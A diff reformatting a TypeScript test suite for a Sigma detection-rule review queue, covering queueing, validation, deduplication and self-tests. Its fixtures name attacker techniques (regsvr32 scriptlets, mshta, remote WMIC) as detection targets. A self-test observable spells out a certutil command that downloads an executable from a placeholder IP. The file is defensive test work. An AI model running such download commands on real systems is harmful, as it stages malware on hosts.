@@ -28,17 +28,29 @@ describe('review queue', () => {
       seen.push(`${message.type}:${(message.payload as { queue_id: number }).queue_id}`);
     });
     const item = await create({ rule_yaml: valid });
-    expect(item).toMatchObject({ status: 'pending', title: 'Certutil Download', level: 'medium', source: 'generated', max_similarity: 0, matches: [], telemetry_class: 'process_creation' });
+    expect(item).toMatchObject({
+      status: 'pending',
+      title: 'Certutil Download',
+      level: 'medium',
+      source: 'generated',
+      max_similarity: 0,
+      matches: [],
+      telemetry_class: 'process_creation',
+    });
     await waitUntil(() => seen.length >= 2);
     expect(seen).toEqual([`${TOPICS.sigmaRuleQueued}:${item.queue_id}`, `${TOPICS.sigmaQueueChanged}:${item.queue_id}`]);
     await subscription.cancel();
   });
 
   it('refuses invalid rules with 400 invalid_sigma and their findings', async () => {
-    const response = await api().post('/api/sigma-queue').send({ rule_yaml: valid.replace('level: medium', 'level: severe') });
+    const response = await api()
+      .post('/api/sigma-queue')
+      .send({ rule_yaml: valid.replace('level: medium', 'level: severe') });
     expect(response.status).toBe(400);
     expect(response.body.error.code).toBe('invalid_sigma');
-    expect(response.body.error.details.findings).toEqual([expect.objectContaining({ id: 'invalid_level', severity: 'error', path: 'level' })]);
+    expect(response.body.error.details.findings).toEqual([
+      expect.objectContaining({ id: 'invalid_level', severity: 'error', path: 'level' }),
+    ]);
   });
 
   it('refuses an unknown workflow execution with 400, not 500', async () => {
@@ -65,7 +77,15 @@ describe('review queue', () => {
     expect(first.body.items[0]).toEqual(all.body.items[0]);
     expect((await api().get('/api/sigma-queue/list?workflow_execution_id=7')).body.total).toBe(0);
 
-    for (const query of ['limit=501', 'limit=0', 'offset=-1', 'status=done', 'workflow_execution_id=abc', 'statuses=pending,done', 'statuses=']) {
+    for (const query of [
+      'limit=501',
+      'limit=0',
+      'offset=-1',
+      'status=done',
+      'workflow_execution_id=abc',
+      'statuses=pending,done',
+      'statuses=',
+    ]) {
       const bad = await api().get(`/api/sigma-queue/list?${query}`);
       expect([query, bad.status, bad.body.error.code]).toEqual([query, 400, 'validation_error']);
     }
@@ -90,13 +110,21 @@ describe('review queue', () => {
 
   it('adds review notes in any status without changing it, and validates the note', async () => {
     const item = await create();
-    const first = await api().post(`/api/sigma-queue/${item.queue_id}/review-notes`).send({ note: 'check the parent image', reviewer: 'ana' });
+    const first = await api()
+      .post(`/api/sigma-queue/${item.queue_id}/review-notes`)
+      .send({ note: 'check the parent image', reviewer: 'ana' });
     expect(first.status).toBe(200);
     await api().post(`/api/sigma-queue/${item.queue_id}/reject`).send({ reason: 'too broad' }).expect(200);
     const second = await api().post(`/api/sigma-queue/${item.queue_id}/review-notes`).send({ note: 'agreed' });
     expect(second.body.status).toBe('rejected');
-    expect(second.body.review_notes.map((note: { note: string }) => note.note)).toEqual(['check the parent image', 'rejected: too broad', 'agreed']);
-    expect((await api().post(`/api/sigma-queue/${item.queue_id}/review-notes`).send({ note: '   ' })).body.error.code).toBe('validation_error');
+    expect(second.body.review_notes.map((note: { note: string }) => note.note)).toEqual([
+      'check the parent image',
+      'rejected: too broad',
+      'agreed',
+    ]);
+    expect((await api().post(`/api/sigma-queue/${item.queue_id}/review-notes`).send({ note: '   ' })).body.error.code).toBe(
+      'validation_error',
+    );
     expect((await api().post('/api/sigma-queue/424242/review-notes').send({ note: 'x' })).status).toBe(404);
   });
 
@@ -110,7 +138,11 @@ describe('review queue', () => {
   it('moves pending → approved and refuses every other transition with 409 invalid_transition', async () => {
     const item = await create();
     const approved = await api().post(`/api/sigma-queue/${item.queue_id}/approve`).send({ reviewer: 'ana', note: 'looks good' });
-    expect(approved.body).toMatchObject({ status: 'approved', reviewer: 'ana', review_notes: [expect.objectContaining({ note: 'looks good', author: 'ana' })] });
+    expect(approved.body).toMatchObject({
+      status: 'approved',
+      reviewer: 'ana',
+      review_notes: [expect.objectContaining({ note: 'looks good', author: 'ana' })],
+    });
     expect(approved.body.reviewed_at).toEqual(expect.any(String));
 
     for (const [method, path, body] of [
@@ -140,17 +172,24 @@ describe('review queue', () => {
     const item = await create();
     const response = await api().post(`/api/sigma-queue/${item.queue_id}/submit`);
     expect(response.status).toBe(409);
-    expect(response.body.error).toMatchObject({ code: 'invalid_transition', details: { status: 'pending', action: 'submit', allowed_from: ['approved'] } });
+    expect(response.body.error).toMatchObject({
+      code: 'invalid_transition',
+      details: { status: 'pending', action: 'submit', allowed_from: ['approved'] },
+    });
   });
 
   it('edits the YAML with re-validation: invalid → 400 invalid_sigma with findings, valid → applied', async () => {
     const item = await create();
-    const invalid = await api().put(`/api/sigma-queue/${item.queue_id}/rule`).send({ rule_yaml: valid.replace('condition: selection', 'condition: selection and missing') });
+    const invalid = await api()
+      .put(`/api/sigma-queue/${item.queue_id}/rule`)
+      .send({ rule_yaml: valid.replace('condition: selection', 'condition: selection and missing') });
     expect(invalid.status).toBe(400);
     expect(invalid.body.error.code).toBe('invalid_sigma');
     expect(invalid.body.error.details.findings.map((f: { id: string }) => f.id)).toContain('condition_unknown_identifier');
 
-    const edited = await api().put(`/api/sigma-queue/${item.queue_id}/rule`).send({ rule_yaml: valid.replace('Certutil Download', 'Certutil Fetch').replace('level: medium', 'level: high') });
+    const edited = await api()
+      .put(`/api/sigma-queue/${item.queue_id}/rule`)
+      .send({ rule_yaml: valid.replace('Certutil Download', 'Certutil Fetch').replace('level: medium', 'level: high') });
     expect(edited.status).toBe(200);
     expect(edited.body).toMatchObject({ title: 'Certutil Fetch', level: 'high', status: 'pending' });
     // The rule as queued stays beside the edit, for the reviewer's diff.
@@ -187,9 +226,19 @@ describe('sigma.queue.enqueue on the bus', () => {
   async function execution(): Promise<{ executionId: number; articleId: number }> {
     const prisma = harness.ctx.db.prisma;
     const n = ++counter;
-    const source = await prisma.source.create({ data: { identifier: `src-${n}`, name: 'Blog', url: 'https://example.test/feed', kind: 'rss' } });
+    const source = await prisma.source.create({
+      data: { identifier: `src-${n}`, name: 'Blog', url: 'https://example.test/feed', kind: 'rss' },
+    });
     const article = await prisma.article.create({
-      data: { sourceId: source.id, canonicalUrl: `https://example.test/${n}`, url: 'https://example.test/a', title: 'A', content: 'text', contentHash: String(n).padStart(64, '0'), simhash: 0n },
+      data: {
+        sourceId: source.id,
+        canonicalUrl: `https://example.test/${n}`,
+        url: 'https://example.test/a',
+        title: 'A',
+        content: 'text',
+        contentHash: String(n).padStart(64, '0'),
+        simhash: 0n,
+      },
     });
     const run = await prisma.workflowExecution.create({ data: { articleId: article.id, configSnapshot: {}, status: 'running' } });
     return { executionId: run.id, articleId: article.id };
@@ -214,7 +263,10 @@ describe('sigma.queue.enqueue on the bus', () => {
     const rules = [{ rule_yaml: valid, source: 'generated' }];
     const first = (await enqueue(executionId, articleId, rules)) as { results: Array<{ queue_id: number; created: boolean }> };
     const queueId = first.results[0]?.queue_id;
-    await request(harness.app).put(`/api/sigma-queue/${queueId}/rule`).send({ rule_yaml: valid.replace('level: medium', 'level: high') }).expect(200);
+    await request(harness.app)
+      .put(`/api/sigma-queue/${queueId}/rule`)
+      .send({ rule_yaml: valid.replace('level: medium', 'level: high') })
+      .expect(200);
 
     const again = (await enqueue(executionId, articleId, rules)) as { results: Array<{ queue_id: number; created: boolean }> };
     expect(again.results).toEqual([expect.objectContaining({ queue_id: queueId, created: false })]);
@@ -225,16 +277,31 @@ describe('sigma.queue.enqueue on the bus', () => {
 
   it('queues every rule of a request in order, each with its own comparison, and the same text only once', async () => {
     const { executionId, articleId } = await execution();
-    const other = rule({ id: '66666666-6666-4666-8666-666666666666', title: 'Regsvr32 Scriptlet', image: '\\regsvr32.exe', args: ['/i:http'] });
+    const other = rule({
+      id: '66666666-6666-4666-8666-666666666666',
+      title: 'Regsvr32 Scriptlet',
+      image: '\\regsvr32.exe',
+      args: ['/i:http'],
+    });
     const reply = (await enqueue(executionId, articleId, [
       { rule_yaml: valid, source: 'generated' },
       { rule_yaml: other, source: 'generated', needs_review: true },
       { rule_yaml: valid, source: 'generated' },
     ])) as { ok: true; results: Array<{ queue_id: number; status: string; created: boolean }> };
-    expect(reply.results.map((r) => [r.status, r.created])).toEqual([['pending', true], ['needs_review', true], ['pending', false]]);
+    expect(reply.results.map((r) => [r.status, r.created])).toEqual([
+      ['pending', true],
+      ['needs_review', true],
+      ['pending', false],
+    ]);
     expect(reply.results[2]?.queue_id).toBe(reply.results[0]?.queue_id);
-    const items = await harness.ctx.db.prisma.sigmaQueueItem.findMany({ where: { workflowExecutionId: executionId }, orderBy: { id: 'asc' } });
-    expect(items.map((item) => [item.id, item.title])).toEqual([[reply.results[0]?.queue_id, 'Certutil Download'], [reply.results[1]?.queue_id, 'Regsvr32 Scriptlet']]);
+    const items = await harness.ctx.db.prisma.sigmaQueueItem.findMany({
+      where: { workflowExecutionId: executionId },
+      orderBy: { id: 'asc' },
+    });
+    expect(items.map((item) => [item.id, item.title])).toEqual([
+      [reply.results[0]?.queue_id, 'Certutil Download'],
+      [reply.results[1]?.queue_id, 'Regsvr32 Scriptlet'],
+    ]);
   });
 
   it('queues an invalid publisher rule for review with its findings instead of refusing it', async () => {
@@ -244,10 +311,19 @@ describe('sigma.queue.enqueue on the bus', () => {
     const reply = (await enqueue(executionId, articleId, [
       { rule_yaml: broken, source: 'publisher', provenance: { start: 10, end: 200 }, delivery_permitted: true },
       { rule_yaml: unparsable, source: 'publisher', delivery_permitted: true },
-    ])) as { ok: true; results: Array<{ outcome: string; queue_id: number; status: string; inconclusive: boolean; max_similarity: number | null }> };
-    expect(reply.results.map((r) => [r.outcome, r.status])).toEqual([['queued', 'needs_review'], ['queued', 'needs_review']]);
+    ])) as {
+      ok: true;
+      results: Array<{ outcome: string; queue_id: number; status: string; inconclusive: boolean; max_similarity: number | null }>;
+    };
+    expect(reply.results.map((r) => [r.outcome, r.status])).toEqual([
+      ['queued', 'needs_review'],
+      ['queued', 'needs_review'],
+    ]);
     expect(reply.results[1]).toMatchObject({ inconclusive: true, max_similarity: null });
-    const [first, second] = await harness.ctx.db.prisma.sigmaQueueItem.findMany({ where: { workflowExecutionId: executionId }, orderBy: { id: 'asc' } });
+    const [first, second] = await harness.ctx.db.prisma.sigmaQueueItem.findMany({
+      where: { workflowExecutionId: executionId },
+      orderBy: { id: 'asc' },
+    });
     expect(first).toMatchObject({ title: 'Certutil Download', source: 'publisher', provenance: { start: 10, end: 200 } });
     expect(first?.validationFindings).toEqual([expect.objectContaining({ id: 'invalid_level', severity: 'error' })]);
     expect(second).toMatchObject({ title: 'Untitled rule', ruleYaml: unparsable, similarityInconclusive: true, maxSimilarity: null });
@@ -266,30 +342,60 @@ describe('sigma.queue.enqueue on the bus', () => {
   it('answers an execution that does not exist with validation_error and writes nothing', async () => {
     const { articleId } = await execution();
     const before = await harness.ctx.db.prisma.sigmaQueueItem.count();
-    expect(await enqueue(999_999, articleId, [{ rule_yaml: valid, source: 'generated' }])).toMatchObject({ ok: false, error: { code: 'validation_error' } });
+    expect(await enqueue(999_999, articleId, [{ rule_yaml: valid, source: 'generated' }])).toMatchObject({
+      ok: false,
+      error: { code: 'validation_error' },
+    });
     expect(await harness.ctx.db.prisma.sigmaQueueItem.count()).toBe(before);
   });
 
   it('applies the promotion rule per rule when given a threshold: a conclusive match at or above it is a duplicate, nothing queued', async () => {
-    const customer = writeTree({ 'rules/certutil.yml': rule({ id: '12121212-3434-4565-8787-909090909090', title: 'Customer certutil rule' }) });
+    const customer = writeTree({
+      'rules/certutil.yml': rule({ id: '12121212-3434-4565-8787-909090909090', title: 'Customer certutil rule' }),
+    });
     const withCorpus = await startSigmaQueue({ SIGMA_REPO_PATH: customer });
     try {
       expect((await withCorpus.ctx.scheduler.runNow('index_customer_repo')).outcome).toBe('succeeded');
       const prisma = withCorpus.ctx.db.prisma;
-      const source = await prisma.source.create({ data: { identifier: 'dup-src', name: 'Blog', url: 'https://example.test/feed', kind: 'rss' } });
+      const source = await prisma.source.create({
+        data: { identifier: 'dup-src', name: 'Blog', url: 'https://example.test/feed', kind: 'rss' },
+      });
       const article = await prisma.article.create({
-        data: { sourceId: source.id, canonicalUrl: 'https://example.test/dup', url: 'https://example.test/dup', title: 'A', content: 'text', contentHash: 'd'.repeat(64), simhash: 0n },
+        data: {
+          sourceId: source.id,
+          canonicalUrl: 'https://example.test/dup',
+          url: 'https://example.test/dup',
+          title: 'A',
+          content: 'text',
+          contentHash: 'd'.repeat(64),
+          simhash: 0n,
+        },
       });
       const run = await prisma.workflowExecution.create({ data: { articleId: article.id, configSnapshot: {}, status: 'running' } });
       const novel = rule({ id: '77777777-7777-4777-8777-777777777777', title: 'Mshta Remote', image: '\\mshta.exe', args: ['http://'] });
-      const reply = (await enqueue(run.id, article.id, [
-        { rule_yaml: valid, source: 'generated', similarity_threshold: 1 },
-        { rule_yaml: novel, source: 'generated', similarity_threshold: 1 },
-      ], withCorpus)) as { ok: true; results: Array<{ outcome: string; max_similarity: number; inconclusive: boolean; matches: Array<{ attribution: { title: string } }> }> };
+      const reply = (await enqueue(
+        run.id,
+        article.id,
+        [
+          { rule_yaml: valid, source: 'generated', similarity_threshold: 1 },
+          { rule_yaml: novel, source: 'generated', similarity_threshold: 1 },
+        ],
+        withCorpus,
+      )) as {
+        ok: true;
+        results: Array<{
+          outcome: string;
+          max_similarity: number;
+          inconclusive: boolean;
+          matches: Array<{ attribution: { title: string } }>;
+        }>;
+      };
       expect(reply.results[0]).toMatchObject({ outcome: 'duplicate', max_similarity: 1, inconclusive: false });
       expect(reply.results[0]?.matches[0]?.attribution.title).toBe('Customer certutil rule');
       expect(reply.results[1]).toMatchObject({ outcome: 'queued', created: true });
-      expect(await prisma.sigmaQueueItem.findMany({ where: { workflowExecutionId: run.id }, select: { title: true } })).toEqual([{ title: 'Mshta Remote' }]);
+      expect(await prisma.sigmaQueueItem.findMany({ where: { workflowExecutionId: run.id }, select: { title: true } })).toEqual([
+        { title: 'Mshta Remote' },
+      ]);
       const withoutThreshold = await enqueue(run.id, article.id, [{ rule_yaml: valid, source: 'generated' }], withCorpus);
       expect(withoutThreshold).toMatchObject({ ok: true, results: [{ outcome: 'queued', created: true, max_similarity: 1 }] });
     } finally {
@@ -300,51 +406,129 @@ describe('sigma.queue.enqueue on the bus', () => {
   it('links a rule that repeats an open or approved queue item instead of queueing it again; a rejected item does not count', async () => {
     const [first, second, third] = [await execution(), await execution(), await execution()];
     const generated = (yaml: string) => [{ rule_yaml: yaml, source: 'generated', similarity_threshold: 0.5 }];
-    const original = rule({ id: '81818181-8181-4181-8181-818181818181', title: 'Remote WMIC process', image: '\\wmic.exe', args: ['/node:', 'process call create'] });
-    const reworded = rule({ id: '82828282-8282-4282-8282-828282828282', title: 'WMIC starts a process on another host', image: '\\wmic.exe', args: ['/node:', 'process call create'] });
-    const queued = (await enqueue(first.executionId, first.articleId, generated(original))) as { ok: true; results: Array<{ outcome: string; queue_id: number }> };
+    const original = rule({
+      id: '81818181-8181-4181-8181-818181818181',
+      title: 'Remote WMIC process',
+      image: '\\wmic.exe',
+      args: ['/node:', 'process call create'],
+    });
+    const reworded = rule({
+      id: '82828282-8282-4282-8282-828282828282',
+      title: 'WMIC starts a process on another host',
+      image: '\\wmic.exe',
+      args: ['/node:', 'process call create'],
+    });
+    const queued = (await enqueue(first.executionId, first.articleId, generated(original))) as {
+      ok: true;
+      results: Array<{ outcome: string; queue_id: number }>;
+    };
     expect(queued.results[0]).toMatchObject({ outcome: 'queued', created: true });
     const itemId = queued.results[0]?.queue_id as number;
 
     const again = await enqueue(second.executionId, second.articleId, generated(reworded));
-    expect(again).toMatchObject({ ok: true, results: [{ outcome: 'linked', queue_id: itemId, status: 'pending', max_similarity: 1, inconclusive: false }] });
+    expect(again).toMatchObject({
+      ok: true,
+      results: [{ outcome: 'linked', queue_id: itemId, status: 'pending', max_similarity: 1, inconclusive: false }],
+    });
     const prisma = harness.ctx.db.prisma;
     expect(await prisma.sigmaQueueItem.count({ where: { workflowExecutionId: second.executionId } })).toBe(0);
 
-    const publisherRule = rule({ id: '83838383-8383-4383-8383-838383838383', title: 'Publisher rule', image: '\\mshta.exe', args: ['vbscript:'] });
+    const publisherRule = rule({
+      id: '83838383-8383-4383-8383-838383838383',
+      title: 'Publisher rule',
+      image: '\\mshta.exe',
+      args: ['vbscript:'],
+    });
     const fromPublisher = [{ rule_yaml: publisherRule, source: 'publisher' }];
     const kept = (await enqueue(first.executionId, first.articleId, fromPublisher)) as { ok: true; results: Array<{ queue_id: number }> };
-    expect(await enqueue(second.executionId, second.articleId, fromPublisher)).toMatchObject({ ok: true, results: [{ outcome: 'linked', queue_id: kept.results[0]?.queue_id }] });
+    expect(await enqueue(second.executionId, second.articleId, fromPublisher)).toMatchObject({
+      ok: true,
+      results: [{ outcome: 'linked', queue_id: kept.results[0]?.queue_id }],
+    });
 
     await prisma.sigmaQueueItem.update({ where: { id: itemId }, data: { status: 'rejected', rejectionReason: 'too broad' } });
-    expect(await enqueue(third.executionId, third.articleId, generated(reworded))).toMatchObject({ ok: true, results: [{ outcome: 'queued', created: true }] });
+    expect(await enqueue(third.executionId, third.articleId, generated(reworded))).toMatchObject({
+      ok: true,
+      results: [{ outcome: 'queued', created: true }],
+    });
   });
 
   it('shows the self-test and covering reference rules the workflow recorded, and runs the self-test again on an edited rule', async () => {
     const { executionId, articleId } = await execution();
     const observables = [{ type: 'cmdline', value: 'certutil.exe -urlcache -f http://198.51.100.4/a.exe a.exe' }];
-    const coveredBy = [{ rule_id: 'r-1', title: 'CertUtil Download', author: 'SigmaHQ', license: 'DRL-1.1', origin: 'sigmahq', path: 'rules/certutil.yml', level: 'high' }];
-    const provenance = { self_test: { fires: true, events: 2, fired_on: [`cmdline: ${observables[0]?.value}`], baseline: { events: 3286, fires: 0, examples: [] } }, observables, covered_by: coveredBy };
-    const [result] = ((await enqueue(executionId, articleId, [{ rule_yaml: valid, source: 'generated', needs_review: true, provenance }])) as { results: Array<{ queue_id: number }> }).results;
+    const coveredBy = [
+      {
+        rule_id: 'r-1',
+        title: 'CertUtil Download',
+        author: 'SigmaHQ',
+        license: 'DRL-1.1',
+        origin: 'sigmahq',
+        path: 'rules/certutil.yml',
+        level: 'high',
+      },
+    ];
+    const provenance = {
+      self_test: {
+        fires: true,
+        events: 2,
+        fired_on: [`cmdline: ${observables[0]?.value}`],
+        baseline: { events: 3286, fires: 0, examples: [] },
+      },
+      observables,
+      covered_by: coveredBy,
+    };
+    const [result] = (
+      (await enqueue(executionId, articleId, [{ rule_yaml: valid, source: 'generated', needs_review: true, provenance }])) as {
+        results: Array<{ queue_id: number }>;
+      }
+    ).results;
     const item = (await request(harness.app).get(`/api/sigma-queue/${result?.queue_id}`).expect(200)).body;
-    expect(item.self_test).toEqual({ fires: true, events: 2, fired_on: [`cmdline: ${observables[0]?.value}`], baseline: { events: 3286, fires: 0, examples: [] }, error: null });
+    expect(item.self_test).toEqual({
+      fires: true,
+      events: 2,
+      fired_on: [`cmdline: ${observables[0]?.value}`],
+      baseline: { events: 3286, fires: 0, examples: [] },
+      error: null,
+    });
     expect(item.covered_by).toEqual(coveredBy);
 
     // An edit that no longer matches the observable: the queue runs the self-test on the new YAML.
-    const edited = await request(harness.app).put(`/api/sigma-queue/${result?.queue_id}/rule`).send({ rule_yaml: rule({ id: ID, title: 'Certutil Download', image: '\\bitsadmin.exe' }) }).expect(200);
+    const edited = await request(harness.app)
+      .put(`/api/sigma-queue/${result?.queue_id}/rule`)
+      .send({ rule_yaml: rule({ id: ID, title: 'Certutil Download', image: '\\bitsadmin.exe' }) })
+      .expect(200);
     expect(edited.body.self_test).toMatchObject({ fires: false, fired_on: [] });
     expect(edited.body.self_test.baseline.events).toBeGreaterThanOrEqual(3000);
     expect(edited.body.covered_by).toEqual(coveredBy);
     // A rule queued without observables has no self-test to show or re-run.
-    const plain = (await request(harness.app).post('/api/sigma-queue').send({ rule_yaml: rule({ id: '7c1e2a4b-5d6f-4a8b-9c0d-1e2f3a4b5c6d', title: 'Plain' }) }).expect(201)).body as { queue_id: number };
-    expect((await request(harness.app).put(`/api/sigma-queue/${plain.queue_id}/rule`).send({ rule_yaml: rule({ id: '7c1e2a4b-5d6f-4a8b-9c0d-1e2f3a4b5c6d', title: 'Plain', args: ['-decode'] }) }).expect(200)).body.self_test).toBeNull();
+    const plain = (
+      await request(harness.app)
+        .post('/api/sigma-queue')
+        .send({ rule_yaml: rule({ id: '7c1e2a4b-5d6f-4a8b-9c0d-1e2f3a4b5c6d', title: 'Plain' }) })
+        .expect(201)
+    ).body as { queue_id: number };
+    expect(
+      (
+        await request(harness.app)
+          .put(`/api/sigma-queue/${plain.queue_id}/rule`)
+          .send({ rule_yaml: rule({ id: '7c1e2a4b-5d6f-4a8b-9c0d-1e2f3a4b5c6d', title: 'Plain', args: ['-decode'] }) })
+          .expect(200)
+      ).body.self_test,
+    ).toBeNull();
   });
 
   it('self-tests a draft as the reviewer types it, storing nothing; a half-typed draft gets the reason, not a 400', async () => {
     const { executionId, articleId } = await execution();
     const observables = [{ type: 'cmdline', value: 'certutil.exe -urlcache -f http://198.51.100.4/a.exe a.exe' }];
-    const provenance = { self_test: { fires: true, events: 2, fired_on: [`cmdline: ${observables[0]?.value}`], baseline: null }, observables };
-    const [result] = ((await enqueue(executionId, articleId, [{ rule_yaml: valid, source: 'generated', provenance }])) as { results: Array<{ queue_id: number }> }).results;
+    const provenance = {
+      self_test: { fires: true, events: 2, fired_on: [`cmdline: ${observables[0]?.value}`], baseline: null },
+      observables,
+    };
+    const [result] = (
+      (await enqueue(executionId, articleId, [{ rule_yaml: valid, source: 'generated', provenance }])) as {
+        results: Array<{ queue_id: number }>;
+      }
+    ).results;
     const id = result?.queue_id as number;
     const draft = (yaml: string) => request(harness.app).post(`/api/sigma-queue/${id}/self-test`).send({ rule_yaml: yaml });
 
@@ -361,15 +545,29 @@ describe('sigma.queue.enqueue on the bus', () => {
     expect(item.rule_yaml).toBe(valid);
     expect(item.self_test.fires).toBe(true);
 
-    const plain = (await request(harness.app).post('/api/sigma-queue').send({ rule_yaml: rule({ id: '7c1e2a4b-5d6f-4a8b-9c0d-1e2f3a4b5c6e', title: 'Plain' }) }).expect(201)).body as { queue_id: number };
-    expect((await request(harness.app).post(`/api/sigma-queue/${plain.queue_id}/self-test`).send({ rule_yaml: valid }).expect(200)).body).toEqual({ self_test: null });
-    expect((await request(harness.app).post('/api/sigma-queue/987654/self-test').send({ rule_yaml: valid }).expect(404)).body.error.code).toBe('not_found');
-    expect((await request(harness.app).post(`/api/sigma-queue/${id}/self-test`).send({}).expect(400)).body.error.code).toBe('validation_error');
+    const plain = (
+      await request(harness.app)
+        .post('/api/sigma-queue')
+        .send({ rule_yaml: rule({ id: '7c1e2a4b-5d6f-4a8b-9c0d-1e2f3a4b5c6e', title: 'Plain' }) })
+        .expect(201)
+    ).body as { queue_id: number };
+    expect(
+      (await request(harness.app).post(`/api/sigma-queue/${plain.queue_id}/self-test`).send({ rule_yaml: valid }).expect(200)).body,
+    ).toEqual({ self_test: null });
+    expect(
+      (await request(harness.app).post('/api/sigma-queue/987654/self-test').send({ rule_yaml: valid }).expect(404)).body.error.code,
+    ).toBe('not_found');
+    expect((await request(harness.app).post(`/api/sigma-queue/${id}/self-test`).send({}).expect(400)).body.error.code).toBe(
+      'validation_error',
+    );
   });
 
   it('answers bad payloads with ok: false validation_error', async () => {
     const { executionId, articleId } = await execution();
-    expect(await harness.ctx.bus.request(REQUEST_KEYS.sigmaQueueEnqueue, { rule_yaml: valid })).toMatchObject({ ok: false, error: { code: 'validation_error' } });
+    expect(await harness.ctx.bus.request(REQUEST_KEYS.sigmaQueueEnqueue, { rule_yaml: valid })).toMatchObject({
+      ok: false,
+      error: { code: 'validation_error' },
+    });
     expect(await enqueue(executionId, articleId, [])).toMatchObject({ ok: false, error: { code: 'validation_error' } });
   });
 });
